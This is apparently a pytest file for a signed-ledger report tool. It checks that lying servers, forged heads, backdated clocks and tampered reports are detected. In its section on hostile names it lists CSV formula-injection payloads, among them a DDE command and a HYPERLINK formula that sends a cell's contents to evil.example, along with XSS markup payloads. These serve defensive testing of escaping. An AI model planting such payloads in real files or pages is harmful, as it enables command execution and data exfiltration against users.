"""Attacks on reports: servers that lie about their log, clocks, names that are formulas or markup, altered reports."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from api.client.ledger_report import pdf_file
from api.client.ledger_report.check import LedgerNow, check_report
from api.client.ledger_report.csv_file import csv_bytes, safe_cell
from api.client.ledger_report.files import decode_heads, encode_heads, render, write_report
from api.client.ledger_report.heads import Bounds, ClockStep
from api.client.ledger_report.html_page import html_bytes
from api.client.ledger_report.manifest import CSV, HEADS, HTML, NOTE, Manifest
from api.client.ledger_report.reading import read_ledger
from api.client.log_evidence import check_evidence, keep_evidence
from api.client.state_folder import StateFolder
from api.clock import clock_name
from api.entries import Revocation
from ledger import Fork, InconsistentGrowth, Signer, open_checkpoint
from ledger.cosignature import Cosigner, with_cosignatures
from ledger.note import Note, sign_note
from privacy.errors import DecodeError, UsageError, VerificationFailed
from tests.support.report_ledger import (
    HOUR,
    NOON,
    ORIGIN,
    REPORTER,
    ReportLedger,
    Source,
    cells,
    everything,
    model,
    records,
    report_of,
    started,
)


@pytest.fixture(scope="module")
def ledger() -> ReportLedger:
    return everything()


# -- a server that lies about its log ---------------------------------------------------------------------------------


def hidden(source: Source) -> None:
    del source.entries_[17]


def hidden_at_the_end(source: Source) -> None:
    del source.entries_[-1]


def replaced(source: Source) -> None:
    source.entries_[17] = source.entries_[16]


def reordered(source: Source) -> None:
    source.entries_[17], source.entries_[18] = source.entries_[18], source.entries_[17]


def altered(source: Source) -> None:
    source.entries_[17] = source.entries_[17].replace(b"consent", b"content")


def invented(source: Source) -> None:
    source.entries_.insert(5, b"invented")


@pytest.mark.parametrize("lie", [hidden, hidden_at_the_end, replaced, reordered, altered, invented])
@pytest.mark.parametrize("witnessed", [False, True], ids=["key", "policy"])
def test_a_server_that_shows_other_entries_is_refused(
    ledger: ReportLedger, lie: Callable[[Source], None], witnessed: bool
):
    source = ledger.source
    lie(source)
    with pytest.raises(VerificationFailed) as caught:
        ledger.read(source, witnessed)
    assert caught.value.check == "ledger.entries"


def test_a_page_that_is_too_long_is_refused(ledger: ReportLedger):
    class Generous(Source):
        def entries(self, start: int, stop: int) -> list[bytes]:
            return [*self.entries_[start:stop], b"more"]

        def publications(self, start: int, limit: int) -> list[bytes]:
            return self.notes * 40

    with pytest.raises(VerificationFailed, match=r"ledger\.entries"):
        heads = ledger.read().heads
        read_ledger(Generous(ledger.entries, ledger.notes), heads, ledger.log.verifier, None)
    with pytest.raises(VerificationFailed, match=r"report\.archive"):
        ledger.read(Generous(ledger.entries, ledger.notes))


def test_an_archive_that_ends_before_the_head_is_refused(ledger: ReportLedger):
    """A stale archive would leave the newest entries without a date, or date them by nothing."""

    class Stale(Source):
        def publications(self, start: int, limit: int) -> list[bytes]:
            return list(Source(self.entries_, self.notes[:-1]).publications(start, limit))

    with pytest.raises(VerificationFailed, match=r"report\.archive.* ends at 17 entries.*19"):
        ledger.read(Stale(ledger.entries, ledger.notes))

    class Empty(Source):
        def publications(self, start: int, limit: int) -> list[bytes]:
            return []

    with pytest.raises(VerificationFailed, match=r"report\.archive"):
        ledger.read(Empty(ledger.entries, ledger.notes))


@pytest.mark.parametrize(
    "notes",
    [lambda n: [*n[:2], n[1], *n[2:]], lambda n: [n[1], n[0], *n[2:]], lambda n: [*n[:-1], n[-2], n[-1]]],
    ids=["twice", "backwards", "again"],
)
def test_an_archive_that_is_out_of_order_is_refused(ledger: ReportLedger, notes: Any):
    with pytest.raises(VerificationFailed, match=r"report\.archive"):
        ledger.read(Source(ledger.entries, notes(ledger.notes)))


def test_a_hidden_head_widens_the_bounds_and_never_makes_them_false(ledger: ReportLedger):
    source = ledger.source
    del source.notes[3]
    from api.client.ledger_report.rows import all_rows

    row = list(all_rows(ledger.read(source)))[7]
    assert row.clock == Bounds(NOON + 2 * HOUR, NOON + 4 * HOUR)


def test_a_head_signed_by_another_key_is_refused(ledger: ReportLedger):
    source = ledger.source
    impostor = replace(everything(), log=Signer(ORIGIN, bytes(32)))
    source.notes[3] = with_cosignatures(impostor.head_note(8), [ledger.clock.cosign(_text(ledger.notes[3]), NOON)])
    with pytest.raises(VerificationFailed, match=r"note\.unsigned"):
        ledger.read(source)


def test_a_forged_head_in_the_archive_convicts_the_log(ledger: ReportLedger, tmp_path: Path):
    """A log that backdates an entry by a second history: the head is signed, and not of the log's own tree."""
    source = ledger.source
    forged = ledger.head_note(8, root=bytes(range(32)))
    source.notes[3] = with_cosignatures(forged, [ledger.clock.cosign(_text(forged), NOON)])
    with pytest.raises(InconsistentGrowth) as caught:
        ledger.read(source)
    assert (caught.value.old, caught.value.new) == (source.notes[3], source.notes[-1])
    # What is kept shows it to anybody, without the log.
    state = StateFolder(tmp_path)
    with state.locked():
        kept = keep_evidence(state, caught.value, ("archive", "archive"))
    assert "does not begin with the tree of 8 entries" in check_evidence(kept, ledger.log.verifier)


@pytest.mark.parametrize("size", range(1, 19))
def test_evidence_holds_for_a_forged_head_of_any_size(ledger: ReportLedger, tmp_path: Path, size: int):
    forged = ledger.head_note(size, root=bytes(range(32)))
    notes = sorted([*(n for n in ledger.notes if _size(n) != size), forged], key=_size)
    with pytest.raises(InconsistentGrowth) as caught:
        ledger.read(Source(ledger.entries, notes))
    state = StateFolder(tmp_path)
    with state.locked():
        kept = keep_evidence(state, caught.value, ("archive", "archive"))
    assert f"tree of {size} entries" in check_evidence(kept, ledger.log.verifier)


def test_two_heads_of_the_newest_size_convict_the_log(ledger: ReportLedger):
    class Forked(Source):
        def publications(self, start: int, limit: int) -> list[bytes]:
            other = with_cosignatures(ledger.head_note(root=bytes(32)), [])
            return [note for note in [*self.notes[:-1], other] if _size(note) >= start]

    with pytest.raises(Fork):
        ledger.read(Forked(ledger.entries, ledger.notes))


def test_wrong_entries_and_a_forged_head_are_the_servers_lie_not_the_logs(ledger: ReportLedger):
    """Nobody is convicted by entries that are not the log's."""
    source = ledger.source
    reordered(source)
    source.notes[3] = ledger.head_note(8, root=bytes(32))
    with pytest.raises(VerificationFailed, match=r"ledger\.entries"):
        ledger.read(source)


# -- clocks -----------------------------------------------------------------------------------------------------------


def test_a_date_by_another_key_under_the_clocks_name_is_no_date(ledger: ReportLedger):
    other = Cosigner(clock_name(ORIGIN), bytes(32))
    fake = started()
    fake.notes.append(with_cosignatures(fake.head_note(), [other.cosign(_text(fake.head_note()), NOON)]))
    assert {row.clock for row in report_of(fake).rows} == {Bounds(None, None)}


def test_a_forged_date_under_the_clocks_own_key_is_refused():
    fake = started()
    fake.publish(NOON)
    later = fake.clock.cosign(_text(fake.notes[0]), NOON + 60)
    # The signature of one time, with another time before it.
    lying = replace(later, signature=(NOON - 60).to_bytes(8, "big") + later.signature[8:])
    fake.notes[0] = with_cosignatures(fake.head_note(), [lying])
    with pytest.raises(VerificationFailed, match=r"note\.signature"):
        report_of(fake)


def test_a_date_of_another_head_is_refused():
    fake = started()
    first = fake.head_note()
    fake.add("records", "st-anna", records(fake))
    fake.notes.append(with_cosignatures(fake.head_note(), [fake.clock.cosign(_text(first), NOON)]))
    with pytest.raises(VerificationFailed, match=r"note\.signature"):
        report_of(fake)


def test_a_forged_witness_refuses_the_archive():
    fake = started()
    fake.publish(NOON, {0: NOON, 1: NOON})
    lying = replace(fake.witnesses[2].cosign(_text(fake.notes[0]), NOON), signature=bytes(7) + b"\1" + bytes(64))
    fake.notes[0] = with_cosignatures(fake.notes[0], [lying])
    with pytest.raises(VerificationFailed, match=r"note\.signature"):
        report_of(fake, witnessed=True)


def test_a_clock_that_goes_back_is_told_and_its_times_are_widened():
    """A server that backdates a head cannot make an entry older than it may be."""
    ledger = started()
    ledger.publish(NOON)
    ledger.add("records", "st-anna", records(ledger))
    ledger.publish(NOON + 2 * HOUR)
    ledger.add("back", "st-anna", records(ledger))
    ledger.publish(NOON + HOUR)
    ledger.add("fine", "st-anna", records(ledger))
    ledger.publish(NOON + 3 * HOUR)
    report = report_of(ledger)
    name = clock_name(ORIGIN)
    assert report.steps == (ClockStep(name, 6, NOON + 2 * HOUR, 7, NOON + HOUR),)
    assert [(row.clock.after, row.clock.by) for row in report.rows[5:]] == [
        (NOON, NOON + 2 * HOUR),
        (NOON + HOUR, NOON + 2 * HOUR),
        (NOON + HOUR, NOON + 3 * HOUR),
    ]
    assert [row.flags for row in report.rows] == [*[()] * 6, ("clock-went-back",), ()]
    page = html_bytes(report).decode()
    assert "a clock that went back" in page
    assert "A clock went back" in page


def test_witnesses_whose_clock_goes_back_are_told():
    ledger = started()
    ledger.publish(NOON, {0: NOON + HOUR, 1: NOON + HOUR})
    ledger.add("records", "st-anna", records(ledger))
    ledger.publish(NOON + 5, {0: NOON, 1: NOON})
    report = report_of(ledger, witnessed=True)
    assert {step.clock for step in report.steps} == {"w0", "w1"}
    assert report.rows[5].witnesses == Bounds(NOON, NOON + HOUR, widened=True)
    assert report.rows[5].flags == ("clock-went-back",)


def test_one_head_far_in_the_past_dates_nothing_wrongly():
    ledger = started()
    ledger.publish(NOON)
    ledger.add("records", "st-anna", records(ledger))
    ledger.publish(1)
    rows = report_of(ledger).rows
    assert (rows[5].clock.after, rows[5].clock.by) == (1, NOON)
    assert rows[0].clock.by == NOON


@pytest.mark.parametrize("time", [253_402_300_800, 2**63 - 1])
def test_a_time_that_is_no_date_is_refused(time: int):
    ledger = started()
    ledger.publish(time)
    with pytest.raises(VerificationFailed, match=r"report\.time"):
        report_of(ledger)


# -- names that are formulas or markup --------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(1)",
    "\uff1d1+1",
    "x;=1+1",
    "x, =1+1",
    'x"",=1+1',
    "x|=1+1",
    'x;"=1+1',
    "x;' \"@SUM(1)",
    "x; +1",
    '";=HYPERLINK("http://evil.example?"&A1)',
]


def starts_a_formula(cell: str) -> bool:
    return cell.strip()[:1] in "=+-@\uff1d\uff0b\uff0d\uff20" and bool(cell.strip())


def in_any_dialect(data: bytes) -> list[str]:
    """Every cell that some spreadsheet may see: split at commas, at semicolons (as many countries set it), at tabs."""
    text = data.decode("utf-8-sig")
    found = []
    for delimiter in ",;\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
                # A spreadsheet shows a cell like `x"` as it is, and reads what follows a quote as the cell.
                found += [cell.strip('"') for cell in row]
    return found


@pytest.mark.parametrize("name", FORMULAS)
def test_names_and_reasons_are_no_formulas_in_any_spreadsheet(name: str):
    ledger = started()
    ledger.party("owner", name)
    ledger.add("model of it", name, model(name=name, version=name, schema=bytes(32)))
    ledger.add("end", name, Revocation(ledger.at["model of it"], name))
    ledger.raw("junk", b'{"kind":"' + name.replace('"', "").encode() + b'"}')
    ledger.publish(NOON)
    report = report_of(ledger)
    assert not [cell for cell in in_any_dialect(csv_bytes(report)) if starts_a_formula(cell)]
    # And nobody loses what was written.
    assert [row["author"].replace("'", "") for row in cells(report)][5:8] == [name.replace("'", "")] * 3


@pytest.mark.parametrize("cell", ["\t=1", " =1", "\r=1", "\n=1", "a\n=1", "\x00=1"])
def test_control_characters_neither_hide_nor_begin_a_formula(cell: str):
    shown = safe_cell(cell)
    assert shown.isprintable()
    assert not starts_a_formula(shown)


@pytest.mark.parametrize(
    "cell", ["", "st-anna", "2026-01-01T00:00:00Z", "5 6 7", "a=b", "e-mail", "a + b", "x@y.example"]
)
def test_plain_cells_are_left_alone(cell: str):
    assert safe_cell(cell) == cell


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>x</script>",
    "</main></body></html>",
    "&lt;b&gt;",
    "<!-- x",
]


@pytest.mark.parametrize("name", MARKUP)
def test_names_and_reasons_are_no_markup(name: str):
    class Tags(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: list[str] = []
            self.text = ""

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.append(f"{tag} {sorted(name for name, _ in attrs)}")

        def handle_data(self, data: str) -> None:
            self.text += data

    def page_of(chosen: str) -> Tags:
        ledger = started()
        ledger.party("owner", chosen)
        ledger.add("model of it", chosen, model(name=chosen, version="1", schema=bytes(32)))
        ledger.add("end", chosen, Revocation(ledger.at["model of it"], chosen))
        ledger.raw("junk", b'{"kind":"' + chosen.replace('"', "").encode() + b'"}')
        ledger.publish(NOON)
        tags = Tags()
        tags.feed(html_bytes(report_of(ledger)).decode())
        return tags

    hostile, plain = page_of(name), page_of("plain")
    assert hostile.tags == plain.tags
    assert hostile.text.count(name) >= 3


@pytest.mark.parametrize("name", ["**bold** __x__", "%PDF-1.7 endobj", "(\\) Tj ET", "--strike--"])
def test_names_are_no_instructions_in_the_pdf(name: str):
    ledger = started()
    ledger.party("owner", name)
    ledger.publish(NOON)
    pdf = pdf_file.sign_pdf_with_signer(pdf_file.pdf_bytes(report_of(ledger)), REPORTER)
    from pyhanko.pdf_utils.reader import PdfFileReader

    assert PdfFileReader(io.BytesIO(pdf)).root["/Pages"]["/Count"] >= 1


# -- reports that were altered ----------------------------------------------------------------------------------------


@pytest.fixture
def folder(ledger: ReportLedger, tmp_path: Path) -> Path:
    """An honest report, by the clinic st-anna."""
    signer = Signer(f"{ORIGIN}/party/1", ledger.keys["st-anna"].private_bytes_raw())
    report = report_of(ledger)
    write_report(tmp_path / "r", report, render(report, ledger.read().heads, pdf_file.pdf_bytes), signer)
    return tmp_path / "r"


def now(ledger: ReportLedger, source: Source | None = None) -> LedgerNow:
    source = source or ledger.source
    return LedgerNow(source, ledger.head(source), ledger.trusted())


def signed_again(folder: Path, signer: Signer, files: dict[str, bytes], **changes: Any) -> None:
    """A reporter who alters files and signs them: everything but the ledger agrees with itself."""
    manifest = Manifest.parse(Note.parse((folder / NOTE).read_bytes()))
    for name, data in files.items():
        (folder / name).write_bytes(data)
    digests = {name: hashlib.sha256((folder / name).read_bytes()).digest() for name in manifest.digests}
    (folder / NOTE).write_bytes(replace(manifest, digests=digests, **changes).sign(signer))


@pytest.mark.parametrize("name", ["report.csv", "report.heads", "report.html", "report.pdf"])
def test_a_file_altered_after_signing_is_refused(ledger: ReportLedger, folder: Path, name: str):
    data = bytearray((folder / name).read_bytes())
    data[len(data) // 2] ^= 1
    (folder / name).write_bytes(data)
    for ledger_now, key in ((None, _verifier(folder)), (now(ledger), None)):
        with pytest.raises(VerificationFailed, match=rf"report\.digest.*{name}"):
            check_report(folder, key, ledger_now)


def test_a_file_that_is_gone_is_told(folder: Path):
    (folder / CSV).unlink()
    with pytest.raises(UsageError, match=r"report\.csv"):
        check_report(folder, _verifier(folder), None)


def test_files_of_another_report_are_refused(ledger: ReportLedger, folder: Path, tmp_path: Path):
    other = report_of(ledger, clinic="city")
    signer = Signer(f"{ORIGIN}/party/1", ledger.keys["st-anna"].private_bytes_raw())
    write_report(tmp_path / "o", other, render(other, ledger.read().heads, None), signer)
    shutil.copy(tmp_path / "o" / CSV, folder / CSV)
    with pytest.raises(VerificationFailed, match=r"report\.digest"):
        check_report(folder, None, now(ledger))


@pytest.mark.parametrize(
    ("old", "new"),
    [("size 19", "size 18"), ("flagged 2", "flagged 0"), ("from -", "from 2026-01-01T00:00:00Z"), ("log ", "log x")],
)
def test_a_note_altered_after_signing_is_refused(ledger: ReportLedger, folder: Path, old: str, new: str):
    text = (folder / NOTE).read_text()
    assert old in text
    (folder / NOTE).write_text(text.replace(old, new, 1))
    for ledger_now, key in ((None, _verifier(folder)), (now(ledger), None)):
        with pytest.raises(VerificationFailed):
            check_report(folder, key, ledger_now)


def test_a_note_signed_by_another_key_is_refused(ledger: ReportLedger, folder: Path):
    honest = _verifier(folder)
    signed_again(folder, REPORTER, {})
    with pytest.raises(VerificationFailed, match=r"note\.unsigned"):
        check_report(folder, honest, None)
    with pytest.raises(VerificationFailed, match=r"report\.signer"):
        check_report(folder, None, now(ledger))


def test_another_key_under_the_name_of_a_party_is_refused(ledger: ReportLedger, folder: Path):
    signed_again(folder, Signer(f"{ORIGIN}/party/1", bytes(32)), {})
    with pytest.raises(VerificationFailed, match=r"note\.unsigned"):
        check_report(folder, None, now(ledger))


@pytest.mark.parametrize("index", [4, 7, 10_000])
def test_a_signer_that_is_no_party_is_refused(ledger: ReportLedger, folder: Path, index: int):
    signed_again(folder, Signer(f"{ORIGIN}/party/{index}", bytes(32)), {})
    with pytest.raises(VerificationFailed, match=r"ledger\.reference"):
        check_report(folder, None, now(ledger))


def test_a_report_signed_by_another_party_is_not_taken_for_the_expected_one(ledger: ReportLedger, folder: Path):
    honest = _verifier(folder)
    signed_again(folder, Signer(f"{ORIGIN}/party/2", ledger.keys["city"].private_bytes_raw()), {})
    assert check_report(folder, None, now(ledger)).signed_by == f"{ORIGIN}/party/2"
    with pytest.raises(VerificationFailed, match=r"note\.unsigned"):
        check_report(folder, honest, now(ledger))


def test_other_texts_that_a_party_signs_are_no_report(ledger: ReportLedger, folder: Path):
    signer = Signer(f"{ORIGIN}/party/1", ledger.keys["st-anna"].private_bytes_raw())
    (folder / NOTE).write_bytes(sign_note(f"{ORIGIN}\n19\nAAAA\n", [signer]).format())
    with pytest.raises(DecodeError, match="first line"):
        check_report(folder, _verifier(folder), None)


def _dishonest(ledger: ReportLedger) -> Signer:
    return Signer(f"{ORIGIN}/party/1", ledger.keys["st-anna"].private_bytes_raw())


def test_a_reporter_who_leaves_a_row_out_is_found(ledger: ReportLedger, folder: Path):
    lines = (folder / CSV).read_bytes().split(b"\r\n")
    signed_again(folder, _dishonest(ledger), {CSV: b"\r\n".join(lines[:8] + lines[9:])}, entries=18)
    with pytest.raises(VerificationFailed, match=r"report\.csv: line 9 of report\.csv"):
        check_report(folder, None, now(ledger))


def test_a_reporter_who_alters_a_row_is_found(ledger: ReportLedger, folder: Path):
    data = (folder / CSV).read_bytes()
    signed_again(folder, _dishonest(ledger), {CSV: data.replace(b"open-suspension", b"")}, flagged=0)
    with pytest.raises(VerificationFailed, match=r"report\.csv: line 20 "):
        check_report(folder, None, now(ledger))


@pytest.mark.parametrize("changes", [{"flagged": 0}, {"entries": 3}], ids=["flagged", "entries"])
def test_a_reporter_whose_note_counts_wrongly_is_found(ledger: ReportLedger, folder: Path, changes: dict[str, int]):
    signed_again(folder, _dishonest(ledger), {}, **changes)
    with pytest.raises(VerificationFailed, match=r"report\.note"):
        check_report(folder, None, now(ledger))


def test_a_reporter_whose_page_tells_another_story_is_found(ledger: ReportLedger, folder: Path):
    page = (folder / HTML).read_bytes().replace(b"open-suspension", b"")
    signed_again(folder, _dishonest(ledger), {HTML: page})
    with pytest.raises(VerificationFailed, match=r"report\.page"):
        check_report(folder, None, now(ledger))


def test_a_reporter_who_calls_a_part_the_whole_is_found(ledger: ReportLedger, folder: Path):
    """The rows of one clinic, or of an older head, in a report that says it has everything."""
    part = csv_bytes(report_of(ledger, clinic="st-anna"))
    signed_again(folder, _dishonest(ledger), {CSV: part}, entries=14)
    with pytest.raises(VerificationFailed, match=r"report\.csv"):
        check_report(folder, None, now(ledger))


def test_a_reporter_who_claims_another_root_is_found(ledger: ReportLedger, folder: Path):
    for changes in ({"root": bytes(32)}, {"size": 17}):
        signed_again(folder, _dishonest(ledger), {}, **changes)
        with pytest.raises(VerificationFailed, match=r"report\.heads"):
            check_report(folder, None, now(ledger))


def test_a_reporter_who_leaves_out_a_head_is_found(ledger: ReportLedger, folder: Path):
    """Without a head times grow vague: an answer after its policy might pass for one before."""
    notes = decode_heads((folder / HEADS).read_bytes())
    del notes[3]
    signed_again(folder, _dishonest(ledger), {HEADS: _heads(ledger, notes)})
    with pytest.raises(VerificationFailed, match=r"report\.heads.*8 entries"):
        check_report(folder, None, now(ledger))


def test_a_reporter_who_takes_off_a_date_is_found(ledger: ReportLedger, folder: Path):
    notes = decode_heads((folder / HEADS).read_bytes())
    notes[3] = ledger.head_note(8)
    signed_again(folder, _dishonest(ledger), {HEADS: _heads(ledger, notes)})
    with pytest.raises(VerificationFailed, match=r"report\.heads.*8 entries"):
        check_report(folder, None, now(ledger))


def test_a_reporter_who_puts_in_a_head_of_his_own_is_found(ledger: ReportLedger, folder: Path):
    impostor = replace(everything(), log=Signer(ORIGIN, bytes(32)))
    notes = decode_heads((folder / HEADS).read_bytes())
    notes.insert(3, impostor.head_note(7))
    data = "".join(f"{_base64(note)}\n" for note in notes).encode()
    signed_again(folder, _dishonest(ledger), {HEADS: data})
    with pytest.raises(VerificationFailed, match=r"note\.unsigned"):
        check_report(folder, None, now(ledger))


def test_a_log_that_went_back_is_found_by_the_report(ledger: ReportLedger, folder: Path):
    """The report is evidence against a log that forgets."""
    short = Source(ledger.entries[:17], ledger.notes[:-1])
    with pytest.raises(VerificationFailed, match=r"monitor\.rollback"):
        check_report(folder, None, now(ledger, short))


def test_a_log_with_another_history_is_found_by_the_report(ledger: ReportLedger, folder: Path):
    other = everything()
    other.entries[17] = other.sign("st-anna", Revocation(other.at["records"], "another reason"))
    other.notes[-1:] = []
    other.publish(NOON + 7 * HOUR)
    with pytest.raises(VerificationFailed, match=r"report\.heads"):
        check_report(folder, None, now(other))


def test_a_log_that_rewrote_what_it_grew_from_is_convicted_by_the_report(ledger: ReportLedger, folder: Path):
    """It shows no head of the report's size any more, but the report kept the one that it signed."""
    other = everything()
    other.entries[17] = other.sign("st-anna", Revocation(other.at["records"], "another reason"))
    other.notes[-1:] = []
    other.raw("more", b"more")
    other.publish(NOON + 9 * HOUR)
    with pytest.raises(InconsistentGrowth) as caught:
        check_report(folder, None, now(other))
    assert open_checkpoint(caught.value.old, ledger.log.verifier, ORIGIN).size == 19


def test_a_report_of_another_log_is_refused(folder: Path, ledger: ReportLedger):
    other = Signer("other.example/ledger", bytes(32))
    head = open_checkpoint(_checkpoint(other, 19), other.verifier, "other.example/ledger")
    with pytest.raises(VerificationFailed, match=r"report\.log"):
        check_report(folder, _verifier(folder), replace(now(ledger), head=head))


# -- small things -----------------------------------------------------------------------------------------------------


def _text(note: bytes) -> bytes:
    return Note.parse(note).text.encode()


def _size(note: bytes) -> int:
    return int(Note.parse(note).text.split("\n")[1])


def _base64(data: bytes) -> str:
    from ledger.encoding import encode_base64

    return encode_base64(data)


def _heads(ledger: ReportLedger, notes: list[bytes]) -> bytes:
    return encode_heads([open_checkpoint(note, ledger.log.verifier, ORIGIN) for note in notes])


def _checkpoint(signer: Signer, size: int) -> bytes:
    from ledger.checkpoint import Checkpoint, sign_checkpoint

    return sign_checkpoint(Checkpoint(signer.name, size, bytes(32)), signer)


def _verifier(folder: Path) -> Any:
    """The key of the party that signed the report, as somebody who knows it would give it."""
    return Signer(f"{ORIGIN}/party/1", hashlib.sha256(b"party st-anna").digest()).verifier
